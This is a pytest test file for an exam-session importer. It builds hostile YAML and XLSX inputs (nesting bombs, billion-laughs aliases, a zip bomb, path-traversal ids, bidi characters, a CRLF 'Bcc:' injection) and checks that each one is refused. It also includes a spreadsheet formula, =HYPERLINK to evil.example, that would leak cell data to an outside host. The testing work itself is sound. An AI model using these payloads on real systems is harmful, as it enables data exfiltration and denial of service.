"""Hostile and oversized session files: each refused with file, place and field, quickly, storing nothing.

The hostile files are generated here (a few lines each) rather than committed.
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet._reader import WorkSheetParser

from lms_bridge.cli import cli
from lms_bridge.config import LimitsSettings, load_settings
from lms_bridge.domain.session import SessionSpec
from lms_bridge.sessionfile import Problem, read_session, read_session_file
from lms_bridge.sessionfile.bounds import column_lengths
from lms_bridge.sessionfile.workbook import build_workbook, workbook_bytes
from lms_bridge.store import models

from .helpers import BASE_YAML, line_of, mutate


def refused(data: bytes, name: str, limits: LimitsSettings | None = None) -> list[Problem]:
    spec, problems = read_session(data, name, limits)
    assert spec is None, "the file was expected to be refused"
    assert problems
    assert all(p.file == name for p in problems)
    return problems


def only(problems: list[Problem]) -> Problem:
    assert len(problems) == 1, [str(p) for p in problems]
    return problems[0]


def students_yaml(count: int, *, id_of=str) -> str:  # type: ignore[no-untyped-def]
    head = BASE_YAML[: BASE_YAML.index("students:")]
    tail = BASE_YAML[BASE_YAML.index("tickets:"):]
    rows = "".join(f'  - id: "{id_of(i)}"\n    name: "Student {i}"\n    email: s{i}@stud.univ.edu.kz\n'
                   for i in range(count))
    return head + "students:\n" + rows + tail


# -- YAML structure ---------------------------------------------------------------------------------

def test_nesting_100000_deep_is_refused_with_its_line_and_field() -> None:
    text = mutate(BASE_YAML, ('  group: "ИС-21-1"', "  group: " + "[" * 100_000 + "]" * 100_000))
    problem = only(refused(text.encode(), "deep.yaml"))
    assert "nested more than 20 levels" in problem.message
    assert problem.location.line == line_of(text, "group:")
    assert problem.field == "group"
    assert problem.location.path.startswith("session.group")


def test_block_nesting_is_refused_too() -> None:
    text = "session:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 60))
    problem = only(refused(text.encode(), "deep.yaml"))
    assert "nested more than" in problem.message
    assert problem.location.line == 20  # the key whose value would be the 21st level


def test_the_depth_limit_is_a_setting() -> None:
    # A session file nests 5 levels (the file / tickets / a ticket / its questions / a question).
    assert read_session(BASE_YAML.encode(), "s.yaml", LimitsSettings(yaml_depth=5))[0] is not None
    problem = refused(BASE_YAML.encode(), "s.yaml", LimitsSettings(yaml_depth=4))[0]
    assert "nested more than 4 levels" in problem.message


def test_billion_laughs_is_refused_without_expanding() -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        prev, name = chr(96 + i), chr(97 + i)
        lines.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
    text = "\n".join(lines) + "\n"
    problem = only(refused(text.encode(), "laughs.yaml"))
    assert "more than 200000 values once its aliases" in problem.message
    assert problem.location.line is not None
    assert problem.field


def test_billion_laughs_through_merge_keys_is_refused() -> None:
    text = "a0: &a0 {x: 1}\n" + "".join(
        f"a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}], y{i}: 1}}\n" for i in range(1, 40))
    assert "values once its aliases" in only(refused(text.encode(), "merge.yaml",
                                                     LimitsSettings(yaml_depth=100))).message


def test_aliases_within_the_limits_still_work() -> None:
    text = mutate(BASE_YAML, ('  programme: "6B06102 Ақпараттық жүйелер"', '  programme: &p "6B06102"'),
                  ('  group: "ИС-21-1"', "  group: *p"))
    spec, problems = read_session(text.encode(), "s.yaml")
    assert problems == []
    assert spec is not None
    assert spec.group == "6B06102"


# -- file size ---------------------------------------------------------------------------------------

def test_a_file_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    path.write_bytes(BASE_YAML.encode() + b"#" * 2000)
    spec, problems = read_session_file(path, LimitsSettings(file_bytes=1000))
    assert spec is None
    assert "The file is larger than" in only(problems).message
    assert only(problems).file == str(path)
    assert read_session_file(path, LimitsSettings(file_bytes=len(BASE_YAML.encode()) + 2000))[0] is not None


def test_a_yaml_file_has_a_smaller_size_limit_of_its_own() -> None:
    # PyYAML reads a few hundred kilobytes a second: 3 MB of YAML is refused unread, with a message.
    big = BASE_YAML.encode() + b"#" * (3 * 1024 * 1024)
    problem = only(refused(big, "big.yaml"))
    assert "The YAML file is larger than 2 MB" in problem.message
    assert read_session(big, "big.yaml", LimitsSettings(yaml_bytes=4 * 1024 * 1024))[1] == []


# -- workbooks ---------------------------------------------------------------------------------------

def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        dst.writestr(name, content)
    return out.getvalue()


def test_a_zip_bomb_is_refused_from_the_zip_directory(sample_spec: SessionSpec) -> None:
    # 60 MB of zeros deflate to about 60 KB: the workbook is small, its parts are not.
    bomb = _with_part(workbook_bytes(sample_spec), "xl/media/padding.bin", bytes(60 * 1024 * 1024))
    assert len(bomb) < 200 * 1024
    problem = only(refused(bomb, "bomb.xlsx"))
    assert "unpacks to more than 5 MB" in problem.message


def _students_sheet(rows: int, *, extra_column: int | None = None) -> bytes:
    wb = build_workbook()
    ws = wb["students"]
    for i in range(2, rows + 2):
        ws.cell(row=i, column=1, value=f"{i:06d}")
        ws.cell(row=i, column=2, value=f"Student {i}")
        ws.cell(row=i, column=3, value=f"s{i}@stud.univ.edu.kz")
    if extra_column is not None:
        ws.cell(row=3, column=extra_column, value="x")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_sheet_over_the_row_limit_is_refused_while_streaming() -> None:
    data = _students_sheet(LimitsSettings().workbook_rows + 5)
    problem = next(p for p in refused(data, "long.xlsx") if "rows" in p.message)
    assert "more than 5000 rows" in problem.message
    assert problem.location.sheet == "students"
    assert problem.location.row == 5001


def test_a_sheet_of_80000_rows_costs_only_the_rows_before_the_limit(sample_spec: SessionSpec,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # The bound is work, not seconds: count the rows openpyxl's streaming parser turns into cells.
    parsed = [0]
    parse_row = WorkSheetParser.parse_row

    def counting(self: WorkSheetParser, row: Any) -> Any:
        parsed[0] += 1
        return parse_row(self, row)

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    # The students sheet's XML written by hand (openpyxl would take minutes to write it).
    header = "".join(f'<c r="{col}1" t="inlineStr"><is><t>{title}</t></is></c>'
                     for col, title in zip("ABC", ("id", "name", "email"), strict=True))
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(2, 80_001))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet '
             'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             f'<row r="1">{header}</row>{rows}</sheetData></worksheet>').encode()
    target = "xl/worksheets/sheet4.xml"  # instructions, session, commission, students, tickets
    data = workbook_bytes(sample_spec)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        assert b"admission_rating" in src.read(target)
        for info in src.infolist():
            dst.writestr(info, sheet if info.filename == target else src.read(info.filename))
    problems = refused(out.getvalue(), "long.xlsx")
    assert [(p.location.sheet, p.location.row) for p in problems if "more than 5000 rows" in p.message] == [
        ("students", 5001)]
    # The students sheet stops one row past the limit; the other sheets hold a few dozen rows.
    assert parsed[0] < LimitsSettings().workbook_rows + 200


def test_values_beyond_the_column_limit_are_refused() -> None:
    problem = next(p for p in refused(_students_sheet(3, extra_column=61), "wide.xlsx")
                   if "column" in p.message)
    assert "beyond column BH" in problem.message
    assert (problem.location.sheet, problem.location.row, problem.location.column) == ("students", 3, "BI")


# -- people and tickets ------------------------------------------------------------------------------

def test_too_many_students_are_refused_at_the_first_one_over() -> None:
    text = students_yaml(1001)
    problem = only(refused(text.encode(), "many.yaml"))
    assert "1001 entries; one session may have at most 1000" in problem.message
    assert problem.location.path == "students[1001]"
    assert problem.location.line == line_of(text, 'id: "1000"')
    assert read_session(students_yaml(3).encode(), "few.yaml")[0] is not None


def test_the_student_limit_is_a_setting_also_for_tickets_and_the_commission() -> None:
    limits = LimitsSettings(students=1, tickets=1, commission=3)
    messages = [p.message for p in refused(BASE_YAML.encode(), "s.yaml", limits)]
    assert sum("may have at most" in m for m in messages) == 3


# -- dates -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["9999-12-31T23:59", "1999-12-31T09:00", "2101-01-01T09:00"])
def test_a_sitting_outside_the_sane_years_is_refused(value: str) -> None:
    text = mutate(BASE_YAML, ("starts_at: 2026-06-10T09:00", f"starts_at: {value}"))
    problem = only(refused(text.encode(), "date.yaml"))
    assert problem.field == "starts_at"
    assert "year must be from 2000 to 2100" in problem.message
    assert problem.location.line == line_of(text, "starts_at")


def test_the_last_sane_year_is_accepted() -> None:
    text = mutate(BASE_YAML, ("starts_at: 2026-06-10T09:00", "starts_at: 2100-12-31T09:00"))
    assert read_session(text.encode(), "date.yaml")[1] == []


def test_a_far_date_in_a_workbook_is_refused_with_its_cell(sample_spec: SessionSpec) -> None:
    from datetime import datetime

    wb = build_workbook(sample_spec)
    ws = wb["session"]
    row = next(c.row for c in ws["A"] if c.value == "starts_at")
    ws.cell(row=row, column=2, value=datetime(9999, 12, 31, 9, 0))
    buf = io.BytesIO()
    wb.save(buf)
    problem = only(refused(buf.getvalue(), "date.xlsx"))
    assert (problem.location.sheet, problem.location.row, problem.field) == ("session", row, "starts_at")


# -- ids ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("bad", ["a/b", "../../x", "..", "a b", "a\\\\b", ".hidden", "x..y", "ид-1"])
def test_student_ids_come_from_a_safe_alphabet(bad: str) -> None:
    text = mutate(BASE_YAML, ('  - id: "1001"', f'  - id: "{bad}"'))
    problem = only(refused(text.encode(), "ids.yaml"))
    assert problem.field == "id"
    assert "may only hold Latin letters" in problem.message
    assert problem.location.line == line_of(text, "- id:")


def test_ids_keep_their_leading_zeros_and_may_hold_dots_and_dashes() -> None:
    text = mutate(BASE_YAML, ('  - id: "1001"', "  - id: 000123"), ("  - id: 1002", "  - id: A-21.3_x"))
    spec, problems = read_session(text.encode(), "ids.yaml")
    assert problems == []
    assert spec is not None
    assert [s.id for s in spec.students] == ["000123", "A-21.3_x"]


# -- characters --------------------------------------------------------------------------------------

@pytest.mark.parametrize(("escape", "char"), [("\\r\\n", "U+000D"), ("\\n", "U+000A"), ("\\t", "U+0009"),
                                         ("\\u202e", "U+202E"), ("\\u2066", "U+2066"), ("\\x1b", "U+001B"),
                                         ("\\u0085", "U+0085")])
def test_control_and_bidi_characters_are_refused_in_every_text(escape: str, char: str) -> None:
    for field, old in (("title", 'title: "Кешенді емтихан"'), ("name", 'name: "Аманов Серік"'),
                       ("programme", 'programme: "6B06102 Ақпараттық жүйелер"')):
        key, _sep, value = old.partition(": ")
        text = mutate(BASE_YAML, (old, f'{key}: "{value[1:-1]}{escape}x"'))
        problem = only(refused(text.encode(), "chars.yaml"))
        assert problem.field == field
        assert char in problem.message
        assert problem.location.line == line_of(text, old.split(":")[0] + ":", 1 if field != "name" else 5)


def test_a_nul_byte_is_refused_with_its_line_and_field() -> None:
    text = mutate(BASE_YAML, ('  group: "ИС-21-1"', '  group: "ИС\x00"'))
    problem = only(refused(text.encode(), "nul.yaml"))
    assert "U+0000" in problem.message
    assert problem.field == "group"
    assert problem.location.line == line_of(text, "group:")


def test_questions_may_span_lines_but_not_hold_other_controls() -> None:
    text = mutate(BASE_YAML, ('["Бірінші сұрақ", "Екінші сұрақ"]', '["Бірінші\\nсұрақ", "Екінші сұрақ"]'))
    spec, problems = read_session(text.encode(), "q.yaml")
    assert problems == []
    assert spec is not None
    assert spec.tickets[0].questions[0] == "Бірінші\nсұрақ"
    text = mutate(BASE_YAML, ('["Бірінші сұрақ", "Екінші сұрақ"]', '["Бірінші\\u202eсұрақ", "Екінші сұрақ"]'))
    problem = only(refused(text.encode(), "q.yaml"))
    assert problem.field == "question 1"


def test_control_characters_in_a_workbook_name_the_cell(sample_spec: SessionSpec) -> None:
    wb = build_workbook(sample_spec)
    wb["students"]["B2"] = "Аманов\r\nСерік"
    wb["commission"]["A3"] = "Омаров \u202eДәурен"
    buf = io.BytesIO()
    wb.save(buf)
    problems = refused(buf.getvalue(), "chars.xlsx")
    assert {(p.location.sheet, p.location.row, p.location.column, p.field) for p in problems} == {
        ("commission", 3, "A", "name"), ("students", 2, "B", "name")}


# -- lengths -----------------------------------------------------------------------------------------

def test_field_lengths_are_the_store_columns() -> None:
    lengths = column_lengths()
    assert lengths[("students", "name")] == models.StudentRecord.__table__.c.name.type.length == 255
    assert lengths[("students", "id")] == models.StudentRecord.__table__.c.student_ref.type.length
    assert lengths[("session", "title")] == models.ExamSession.__table__.c.title.type.length
    assert lengths[("session", "group")] == models.ExamSession.__table__.c.group_name.type.length
    assert lengths[("students", "admission_note")] is None  # a Text column: limits.text_chars


@pytest.mark.parametrize(("field", "old", "limit"), [
    ("name", 'name: "Аманов Серік"', 255), ("title", 'title: "Кешенді емтихан"', 500),
    ("group", 'group: "ИС-21-1"', 120), ("id", 'id: "1001"', 64)])
def test_a_text_longer_than_its_column_is_refused(field: str, old: str, limit: int) -> None:
    key = old.split(":")[0]
    fits = mutate(BASE_YAML, (old, f'{key}: "{"7" * limit}"'))
    assert read_session(fits.encode(), "fits.yaml")[1] == []
    text = mutate(BASE_YAML, (old, f'{key}: "{"7" * (limit + 1)}"'))
    problem = only(refused(text.encode(), "long.yaml"))
    assert problem.field == field
    assert f"{limit + 1} characters long; at most {limit}" in problem.message
    assert problem.location.line == line_of(text, key + ":", 5 if field == "name" else 1)


def test_a_long_question_is_refused_by_the_text_limit() -> None:
    text = mutate(BASE_YAML, ('"Бірінші сұрақ"', '"' + "с" * 4001 + '"'))
    problem = only(refused(text.encode(), "q.yaml"))
    assert problem.field == "question 1"


# -- the command line --------------------------------------------------------------------------------

@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in list(os.environ):
        if name.startswith("LMS_BRIDGE_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("LMS_BRIDGE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("LMS_BRIDGE_LANGUAGE", "en")
    return tmp_path


HOSTILE = {
    "deep.yaml": mutate(BASE_YAML, ('  group: "ИС-21-1"', "  group: " + "[" * 100_000 + "]" * 100_000)),
    "ids.yaml": mutate(BASE_YAML, ('  - id: "1001"', '  - id: "../../x"')),
    "crlf.yaml": mutate(BASE_YAML, ('title: "Кешенді емтихан"', 'title: "Кешенді\\r\\nBcc: x@evil.example"')),
    "date.yaml": mutate(BASE_YAML, ("starts_at: 2026-06-10T09:00", "starts_at: 9999-12-31T23:59")),
    "long.yaml": mutate(BASE_YAML, ('name: "Аманов Серік"', f'name: "{"Ә" * 256}"')),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("command", ["check", "import"])
def test_the_commands_refuse_hostile_files_without_a_traceback(cli_env: Path, name: str, command: str) -> None:
    path = cli_env / name
    path.write_text(HOSTILE[name], encoding="utf-8")
    result = CliRunner().invoke(cli, [command, str(path)])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert f"{path}: " in result.output
    assert "nothing was stored" in result.output
    # Nothing stored: import never opened (let alone wrote) the store.
    assert not (cli_env / "data" / "lms_bridge.sqlite3").exists()


def test_the_cli_reads_the_limits_from_the_settings(cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = cli_env / "s.yaml"
    path.write_text(BASE_YAML, encoding="utf-8")
    assert CliRunner().invoke(cli, ["check", str(path)]).exit_code == 0
    monkeypatch.setenv("LMS_BRIDGE_LIMITS_STUDENTS", "1")
    assert load_settings().limits.students == 1
    result = CliRunner().invoke(cli, ["check", str(path)])
    assert result.exit_code == 1
    assert "one session may have at most 1" in result.output


# -- what the product writes -------------------------------------------------------------------------

def test_session_workbooks_keep_formula_like_text_as_text(sample_spec: SessionSpec) -> None:
    from dataclasses import replace

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    students = (replace(sample_spec.students[0], name=evil, id="000123"), *sample_spec.students[1:])
    spec = replace(sample_spec, title="=1+1", students=students)
    wb = load_workbook(io.BytesIO(workbook_bytes(spec)))
    title = next(r[1] for r in wb["session"].iter_rows() if r[0].value == "title")
    assert (title.value, title.data_type) == ("=1+1", "s")
    cell = wb["students"]["B2"]
    assert (cell.value, cell.data_type) == (evil, "s")
    assert (wb["students"]["A2"].value, wb["students"]["A2"].data_type) == ("000123", "s")
    # And the file reads back as the same session.
    assert read_session(workbook_bytes(spec), "s.xlsx")[0] == spec


def test_the_writer_would_otherwise_make_a_formula() -> None:
    # What the typing above guards against: openpyxl's own reading of a string that starts with "=".
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = "=1+1"
    assert ws["A1"].data_type == "f"


@pytest.mark.parametrize(("name", "value"), [("LMS_BRIDGE_LIMITS_STUDENTS", "0"),
                                             ("LMS_BRIDGE_LIMITS_FILE_BYTES", "-1"),
                                             ("LMS_BRIDGE_LIMITS_EARLIEST_YEAR", "2200"),
                                             ("LMS_BRIDGE_LIMITS_YAML_DEPTH", "deep")])
def test_a_malformed_limit_is_a_configuration_error_naming_it(name: str, value: str) -> None:
    from lms_bridge.config import ConfigError

    with pytest.raises(ConfigError, match=r"limits\."):
        load_settings(environ={name: value})


def test_limits_come_from_the_configuration_file(tmp_path: Path) -> None:
    config = tmp_path / "lms-bridge.toml"
    config.write_text("[limits]\nstudents = 30\nwebhook_bytes = 4096\n", encoding="utf-8")
    limits = load_settings(environ={"LMS_BRIDGE_CONFIG": str(config)}).limits
    assert (limits.students, limits.webhook_bytes, limits.tickets) == (30, 4096, 1000)
